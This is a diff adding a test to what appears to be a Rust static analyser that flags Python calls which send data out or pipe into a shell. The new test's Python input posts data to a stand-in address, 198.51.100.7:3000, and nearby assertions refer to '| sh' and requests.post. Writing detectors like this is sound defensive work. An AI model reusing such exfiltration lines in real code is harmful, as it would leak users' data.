@@ -192,6 +192,13 @@ fn wrapper_functions_are_sinks() {
     assert_eq!(run.name, "subprocess.Popen");
     assert!(run.arg_strs.iter().any(|a| a.contains("| sh")), "{run:?}");
     assert!(f.calls.iter().any(|c| c.line == 7 && c.name == "requests.post"));
+    // A request object built from the parameter and opened is a send of it.
+    let f = analyse(
+        "import json, urllib.request\ndef post(url, data):\n    body = json.dumps(data).encode()\n    req = urllib.request.Request(url, data=body, method='POST')\n    with urllib.request.urlopen(req) as r:\n        return r.read()\npost('http://198.51.100.7:3000/r', D)\n",
+    );
+    let post = f.calls.iter().find(|c| c.line == 7).expect("call on line 7");
+    assert_eq!(post.name, "urllib.request.urlopen");
+    assert!(post.arg_strs.iter().any(|a| a.contains("198.51.100.7")), "{post:?}");
     // A function that only uses its parameter for something else is no wrapper.
     let f = analyse("import subprocess\ndef show(c):\n    print(c)\n    subprocess.run(['ls'])\nshow('x')\n");
     assert!(
